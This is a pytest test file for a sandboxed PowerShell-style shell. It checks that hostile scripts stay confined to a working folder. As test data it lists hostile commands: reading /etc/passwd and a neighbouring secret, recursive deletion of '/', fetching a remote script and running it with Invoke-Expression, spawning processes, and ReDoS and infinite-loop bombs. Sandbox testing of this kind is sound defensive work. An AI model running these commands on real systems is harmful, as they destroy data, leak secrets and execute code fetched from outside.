"""What a hostile script tries, and that it reaches nothing outside the working folder and is told so."""

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from umshell.runtime.options import Options
from umshell.runtime.transcript_host import TranscriptHost
from umshell.shell import Shell


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The working folder; beside it lies a secret that no script may see or change."""
    (tmp_path / "secret.txt").write_text("the secret", encoding="utf-8")
    (tmp_path / "outside").mkdir()
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def run(script: str) -> str:
    host = TranscriptHost()
    shell = Shell(host, Options(store=":memory:", transcript=True))
    try:
        shell.run(script)
    finally:
        shell.close()
    return host.text


def untouched(work: Path) -> bool:
    outside = work.parent
    return (outside / "secret.txt").read_text("utf-8") == "the secret" and not list((outside / "outside").iterdir())


READS = [
    "Get-Content ../secret.txt",
    r"Get-Content ..\secret.txt",
    "Get-Content (Join-Path (Split-Path (Get-Location)) secret.txt)",
    "gc /etc/passwd",
    r"gc C:\Windows\win.ini",
    r"gc \\server\share\file.txt",
    "gc 'Microsoft.PowerShell.Core\\FileSystem::/etc/passwd'",
    "Import-Csv ../secret.txt",
    "Import-Clixml ../secret.txt",
    "Select-String secret ../secret.txt",
    "Get-ChildItem ..",
    "Get-ChildItem /",
    "Get-Item ../secret.txt",
    "[System.IO.File]::ReadAllText((Resolve-Path ..).Path + '/secret.txt')",
    "[IO.File]::ReadAllText('../secret.txt')",
    "[IO.File]::ReadAllLines('/etc/passwd')",
    "[IO.Directory]::GetFiles('/')",
    "(New-Object IO.StreamReader '../secret.txt').ReadToEnd()",
    ". ../outside.ps1",
    "& ../secret.txt",
    "[xml](Get-Content ../secret.txt)",
    "Get-Content ~/../../../../etc/passwd",
]


@pytest.mark.parametrize("script", READS)
def test_nothing_outside_is_read(script: str, work: Path) -> None:
    text = run(script)
    assert "ERROR" in text or "TERMINATING" in text
    assert "the secret" not in text and "root:" not in text


WRITES = [
    "Set-Content ../outside/x.txt hello",
    "Add-Content ../secret.txt more",
    "'x' > ../outside/x.txt",
    "'x' | Out-File ../outside/x.txt",
    "'x' | Tee-Object ../outside/x.txt",
    "Get-Date | Export-Clixml ../outside/x.xml",
    "1 | Select-Object @{n='a';e={1}} | Export-Csv ../outside/x.csv",
    "New-Item ../outside/x.txt -ItemType File",
    "New-Item ../outside/d -ItemType Directory",
    "mkdir ../outside/d",
    "Set-Content a.txt a; Copy-Item a.txt ../outside",
    "Set-Content a.txt a; Move-Item a.txt ../outside/a.txt",
    "Copy-Item ../secret.txt copy.txt",
    "Remove-Item ../secret.txt -Force",
    "Remove-Item -Recurse -Force /",
    "Remove-Item -Recurse -Force ..",
    "Remove-Item -Recurse -Force .",
    "Clear-Content ../secret.txt",
    "Rename-Item ../secret.txt known.txt",
    "Set-Location ..",
    "[IO.File]::WriteAllText('../outside/x.txt', 'x')",
    "[IO.File]::Delete('../secret.txt')",
    "[IO.Directory]::CreateDirectory('../outside/d')",
    "Start-Transcript ../outside/log.txt",
]


@pytest.mark.parametrize("script", WRITES)
def test_nothing_outside_is_written(script: str, work: Path) -> None:
    text = run(script)
    assert untouched(work)
    assert "ERROR" in text or "TERMINATING" in text
    assert Path.cwd() == work and work.is_dir()


@pytest.mark.skipif(os.name == "nt", reason="symbolic links need rights on Windows")
def test_links_lead_nowhere(work: Path) -> None:
    (work / "link").symlink_to(work.parent)
    (work / "file").symlink_to(work.parent / "secret.txt")
    text = run("gc link/secret.txt\ngc file\nSet-Content link/x.txt x\n'x' > file\nGet-ChildItem link -Recurse | gc")
    assert untouched(work) and "the secret" not in text and text.count("ERROR") + text.count("TERMINATING") >= 4
    run("Remove-Item link -Recurse -Force")
    assert untouched(work)


PROCESSES = [
    "Start-Process notepad",
    "cmd /c dir",
    "& 'cmd.exe' /c dir",
    "[Diagnostics.Process]::Start('ls')",
    "Invoke-Expression 'ping localhost'",
    "Add-Type -TypeDefinition 'public class X { }'",
    "Add-Type -MemberDefinition 'x' -Name y",
    "(New-Object -ComObject WScript.Shell).Run('cmd')",
    "Get-WmiObject Win32_Process",
    "Invoke-Command -ComputerName other { Get-Process }",
    "Stop-Process -Id 1",
    "Restart-Computer -Force",
    "New-Object Net.WebClient | % { $_.DownloadString('http://example.com') }",
    "[Reflection.Assembly]::LoadFile('C:\\x.dll')",
    "Start-Job { 1 }",
]


@pytest.mark.parametrize("script", PROCESSES)
def test_no_process_is_touched(script: str, work: Path) -> None:
    text = run(script)
    assert "ERROR" in text or "TERMINATING" in text
    assert "Traceback" not in text and "umshell has a defect" not in text


def test_downloaded_text_is_nothing(work: Path) -> None:
    text = run("Invoke-Expression (Invoke-WebRequest http://example.com/x.ps1).Content\n'after'")
    assert "Nothing is fetched" in text and text.rstrip().endswith("after")


def test_the_environment_is_the_models(work: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UMSHELL_TEST_SECRET", "from the machine")
    text = run(
        "\"[$env:UMSHELL_TEST_SECRET]\"\n(Get-ChildItem env: | % Value) -join ' '\n"
        "[Environment]::GetEnvironmentVariable('UMSHELL_TEST_SECRET')\n$env:PATH = 'x'\n"
        "[Environment]::MachineName\n[Environment]::UserName"
    )
    assert "from the machine" not in text and os.environ["PATH"] != "x"


BOMBS = [
    "while ($true) {}",
    "for (;;) { $x = 1 }",
    "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -match '^(a+)+$'",
    "[regex]::Match(('a' * 60) + '!', '^(a|aa)+$').Success",
    "Start-Sleep 600",
    "1..1000000000 | Where-Object { $false }",
]


@pytest.mark.parametrize("script", BOMBS)
def test_what_never_ends_is_stopped(script: str, work: Path) -> None:
    command = [sys.executable, "-m", "umshell", "run", "--store", ":memory:", "--timeout", "0.5", "-"]
    started = time.monotonic()
    done = subprocess.run(command, input=script.encode(), capture_output=True, timeout=30, check=False)
    assert done.returncode != 0
    assert time.monotonic() - started < 6
    assert b"Traceback" not in done.stderr


def test_endless_recursion_is_an_error(work: Path) -> None:
    text = run("function f { f }\nf\n'after'")
    assert "CallDepthOverflow" in text and text.rstrip().endswith("after")
